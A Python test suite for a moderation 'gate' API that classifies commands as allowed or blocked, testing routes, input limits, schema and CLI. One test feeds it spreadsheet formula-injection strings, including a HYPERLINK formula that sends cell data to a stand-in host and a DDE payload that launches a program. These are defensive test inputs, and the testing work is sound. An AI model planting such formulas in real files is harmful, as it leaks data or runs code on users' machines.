"""The gate's HTTP API served for real by uvicorn on loopback, with the fitted-head model:
classify, the OpenAI-compatible moderations route (through the `openai` client), the schema,
strict input and its limits, input with no command in it, and the CLI."""

from __future__ import annotations

import contextlib
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import pytest

from pipeline.core.schema import ATTRIBUTE_NAMES
from pipeline.serve import (
    MAX_BODY_BYTES,
    MAX_COMMAND_CHARS,
    MAX_COMMANDS,
    MODERATION_CATEGORIES,
    create_api,
)

ROOT = Path(__file__).resolve().parents[2]
HARMFUL = "install a keylogger on my roommate's laptop"
HARMLESS = "set a timer for twenty minutes"
ROUTES = ("/v1/classify", "/v1/moderations")


@contextlib.contextmanager
def serving(app):
    """`app` served by uvicorn on a free loopback port in a background thread; yields its URL."""
    import uvicorn

    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.02)
    port = server.servers[0].sockets[0].getsockname()[1]
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=10)


@pytest.fixture(scope="module")
def predictor(gate_head_model_dir):
    from pipeline.model.inference import Predictor

    return Predictor(gate_head_model_dir)


@pytest.fixture(scope="module")
def api_url(predictor):
    with serving(create_api(predictor, model_name="lm-action-test")) as url:
        yield url


@pytest.fixture(scope="module")
def http(api_url):
    with httpx.Client(base_url=api_url, timeout=60) as client:
        yield client


def classify(http, payload) -> list[dict]:
    response = http.post("/v1/classify", json={"input": payload})
    assert response.status_code == 200, response.text
    return response.json()["results"]


# --- /v1/classify ---------------------------------------------------------------------------


def test_classify_one_command_returns_every_output(http):
    [result] = classify(http, HARMFUL)
    assert result["text"] == HARMFUL
    assert result["decision"] == "block"
    assert result["reasons"] and "refuse" in result["reasons"][0]
    assert list(result["labels"]) == list(ATTRIBUTE_NAMES)
    assert result["labels"]["legal"] == "no"
    assert set(result["probabilities"]["risk"]) == {"low", "medium", "high"}
    assert sum(result["probabilities"]["risk"].values()) == pytest.approx(1.0)
    assert isinstance(result["uncertain_outputs"], list)
    assert (result["windows"], result["read_in_full"], result["notices"]) == (1, True, [])


def test_classify_many_keeps_their_order(http):
    results = classify(http, [HARMLESS, HARMFUL, HARMLESS])
    assert [r["decision"] for r in results] == ["allow", "block", "allow"]
    assert [r["text"] for r in results] == [HARMLESS, HARMFUL, HARMLESS]


def test_harmful_request_behind_benign_padding_is_read_in_windows(http):
    padding = "I am organizing my week and want my home office tidy before guests arrive. " * 12
    [result] = classify(http, padding + HARMFUL + ".")
    assert result["windows"] > 1 and result["read_in_full"]
    assert result["decision"] == "block"
    assert any("overlapping parts" in n for n in result["notices"])


def test_command_not_read_in_full_is_never_allowed(http):
    [result] = classify(http, "set a timer now. " * 200)
    assert not result["read_in_full"]
    assert result["decision"] != "allow"
    assert any("not read" in n for n in result["notices"])


def test_control_characters_are_removed_with_a_notice(http):
    [result] = classify(http, "set a\x00 timer for\x07 twenty\x1b minutes")
    assert result["text"] == "set a timer for twenty minutes"
    assert result["notices"] == ["Removed 3 control character(s) from the command."]


@pytest.mark.parametrize(
    "text",
    ["", "   ", "12345", "-42.5", "😀🎉👍", "?!...", '=HYPERLINK("http://evil.example/?x="&A1,"x")',
     "+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1,1)", "<div><br/></div>", "&nbsp;&amp;"],
)
def test_input_with_no_command_gets_a_notice_and_is_not_allowed(http, text):
    [result] = classify(http, text)
    assert result["decision"] != "allow"
    assert any(r.startswith("not a command") for r in result["reasons"]), result["reasons"]
    assert any(n.startswith("No command in the input") for n in result["notices"])


def test_harmless_command_with_markup_or_a_leading_at_is_still_a_command(http):
    results = classify(http, [f"<b>{HARMLESS}</b>", f"@assistant {HARMLESS}"])
    for result in results:
        assert not any(n.startswith("No command") for n in result["notices"]), result


# --- strict input ---------------------------------------------------------------------------


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (5, "input: expected a string or a list of strings, got a number"),
        (True, "input: expected a string or a list of strings, got a boolean"),
        (None, "input: expected a string or a list of strings, got null"),
        ({"text": HARMFUL}, "input: expected a string or a list of strings, got an object"),
        ([HARMLESS, 3], "input[1]: expected a string, got a number"),
        ([[HARMFUL]], "input[0]: expected a string, got a list"),
        ([HARMLESS, {"type": "text", "text": HARMFUL}], "input[1]: expected a string, got an object"),
    ],
)
def test_wrong_payload_types_are_422_and_never_classified(http, route, payload, message):
    response = http.post(route, json={"input": payload})
    assert response.status_code == 422
    body = response.json()
    assert body["error"]["message"] == message
    assert body["error"]["param"] == "input"
    assert "results" not in body


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ({}, "input: Field required"),
        ({"inputs": HARMLESS}, "input: Field required"),
        ({"input": HARMLESS, "top_k": 3}, "top_k: Extra inputs are not permitted"),
    ],
)
def test_classify_request_names_a_missing_or_unknown_field(http, body, message):
    response = http.post("/v1/classify", json=body)
    assert response.status_code == 422
    assert message in response.json()["error"]["message"]


def test_body_that_is_not_a_json_object_is_422(http):
    not_json = http.post("/v1/classify", content=b"{input", headers={"content-type": "application/json"})
    assert not_json.status_code == 422
    assert not_json.json()["error"]["message"].startswith("body: not valid JSON at character 1")
    a_list = http.post("/v1/classify", json=[HARMFUL])
    assert a_list.status_code == 422 and a_list.json()["error"]["param"] == "body"


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize(
    ("payload", "message"),
    [
        ([HARMLESS] * (MAX_COMMANDS + 1), f"input: {MAX_COMMANDS + 1} commands; the limit is {MAX_COMMANDS}"),
        ("x" * (MAX_COMMAND_CHARS + 1), "input: 4,001 characters; the limit is 4,000 per command"),
        ([HARMLESS, "x" * (MAX_COMMAND_CHARS + 1)], "input[1]: 4,001 characters; the limit is 4,000"),
        ([], "input: an empty list; send at least one command"),
    ],
)
def test_input_over_the_limits_is_refused(http, route, payload, message):
    response = http.post(route, json={"input": payload})
    assert response.status_code == 422
    assert response.json()["error"]["message"].startswith(message)


def test_body_over_the_byte_limit_is_413(http):
    body = b'{"input": "' + b"a" * (MAX_BODY_BYTES + 1) + b'"}'
    response = http.post("/v1/classify", content=body, headers={"content-type": "application/json"})
    assert response.status_code == 413


def test_the_limits_themselves_are_accepted(http):
    results = classify(http, [HARMLESS] * (MAX_COMMANDS - 1) + ["set a timer " * 333 + "now"])
    assert len(results) == MAX_COMMANDS
    assert len(results[-1]["text"]) <= MAX_COMMAND_CHARS


# --- /v1/moderations through the openai client ---------------------------------------------


@pytest.fixture(scope="module")
def openai_client(api_url):
    import openai

    return openai.OpenAI(base_url=f"{api_url}/v1", api_key="x", max_retries=0)


def test_moderation_flags_a_harmful_command_and_not_a_harmless_one(openai_client):
    response = openai_client.moderations.create(input=[HARMFUL, HARMLESS])
    assert response.id.startswith("modr-")
    assert response.model == "lm-action-test"
    harmful, harmless = response.results
    assert harmful.flagged and not harmless.flagged
    categories = harmful.categories.to_dict()
    assert set(categories) == set(MODERATION_CATEGORIES)
    assert categories["illegal"] and categories["unethical"] and categories["outside_boundaries"]
    assert not any(harmless.categories.to_dict().values())
    scores = harmful.category_scores.to_dict()
    assert set(scores) == set(categories)
    assert all(0.0 <= s <= 1.0 for s in scores.values())
    assert scores["illegal"] > 0.5 > harmless.category_scores.to_dict()["illegal"]


def test_moderation_of_one_string_with_a_model_name(openai_client):
    response = openai_client.moderations.create(input=HARMFUL, model="omni-moderation-latest")
    assert len(response.results) == 1 and response.results[0].flagged
    assert response.results[0].category_applied_input_types.to_dict()["illegal"] == ["text"]


def test_moderation_refusal_reaches_the_openai_client_with_its_message(openai_client):
    import openai

    with pytest.raises(openai.UnprocessableEntityError, match=r"input\[0\]: expected a string"):
        openai_client.moderations.create(input=[{"type": "text", "text": HARMFUL}])


# --- schema, health and the CLI -------------------------------------------------------------


def test_openapi_schema_documents_routes_and_every_field(http):
    schema = http.get("/openapi.json").json()
    assert {"/v1/classify", "/v1/moderations", "/healthz"} <= set(schema["paths"])
    components = schema["components"]["schemas"]
    assert set(components["CommandResult"]["properties"]) == {
        "text",
        "decision",
        "reasons",
        "labels",
        "probabilities",
        "uncertain_outputs",
        "windows",
        "read_in_full",
        "notices",
    }
    assert set(components["Labels"]["properties"]) == set(ATTRIBUTE_NAMES)
    assert components["Decision"]["enum"] == ["allow", "confirm", "cannot_do", "block"]
    assert set(components["ModerationResult"]["properties"]) >= {"flagged", "categories", "category_scores"}
    text_input, list_input = components["ClassifyRequest"]["properties"]["input"]["anyOf"]
    assert text_input["maxLength"] == MAX_COMMAND_CHARS and list_input["maxItems"] == MAX_COMMANDS
    responses = schema["paths"]["/v1/classify"]["post"]["responses"]
    assert {"200", "413", "422"} <= set(responses)
    assert "swagger" in http.get("/docs").text.lower()


def test_schema_can_move_and_docs_follow_it(predictor):
    with serving(create_api(predictor, openapi_url="/v1/openapi.json")) as url:
        assert httpx.get(f"{url}/openapi.json").status_code == 404
        assert "/v1/classify" in httpx.get(f"{url}/v1/openapi.json").json()["paths"]
        assert "/v1/openapi.json" in httpx.get(f"{url}/docs").text


def test_healthz_names_the_model_and_backend(http):
    assert http.get("/healthz").json() == {
        "status": "ok",
        "model": "lm-action-test",
        "backend": "torch cpu",
        "max_commands": MAX_COMMANDS,
        "max_command_chars": MAX_COMMAND_CHARS,
    }


def test_cli_serves_the_model_until_stopped(gate_head_model_dir, tmp_path):
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    command = [sys.executable, "-m", "pipeline", "serve", "--model-dir", str(gate_head_model_dir)]
    command += ["--host", "127.0.0.1", "--port", str(port), "--threads", "1", "--build-dir", str(tmp_path)]
    log = (tmp_path / "serve.log").open("w")
    process = subprocess.Popen(command, cwd=ROOT, stdout=log, stderr=subprocess.STDOUT, env=os.environ.copy())
    try:
        deadline = time.monotonic() + 120
        while True:
            assert process.poll() is None, (tmp_path / "serve.log").read_text()
            assert time.monotonic() < deadline, "the server did not answer in time"
            try:
                health = httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=2)
                break
            except httpx.TransportError:
                time.sleep(0.2)
        assert health.json()["model"] == gate_head_model_dir.name
        response = httpx.post(f"http://127.0.0.1:{port}/v1/classify", json={"input": HARMFUL}, timeout=30)
        assert response.json()["results"][0]["decision"] == "block"
    finally:
        process.terminate()
        process.wait(timeout=30)
        log.close()


@pytest.mark.parametrize(
    ("args", "message"),
    [(["--model-dir", "missing"], "no config.json"), (["--threads", "0"], "num_threads at least 1")],
)
def test_cli_with_no_model_or_bad_settings_is_a_clear_error(gate_head_model_dir, tmp_path, args, message):
    args = [str(tmp_path / a) if a == "missing" else a for a in args]
    if "--model-dir" not in args:
        args += ["--model-dir", str(gate_head_model_dir)]
    result = subprocess.run(
        [sys.executable, "-m", "pipeline", "serve", *args], cwd=ROOT, capture_output=True, text=True, timeout=120
    )
    assert result.returncode != 0
    assert message in result.stderr
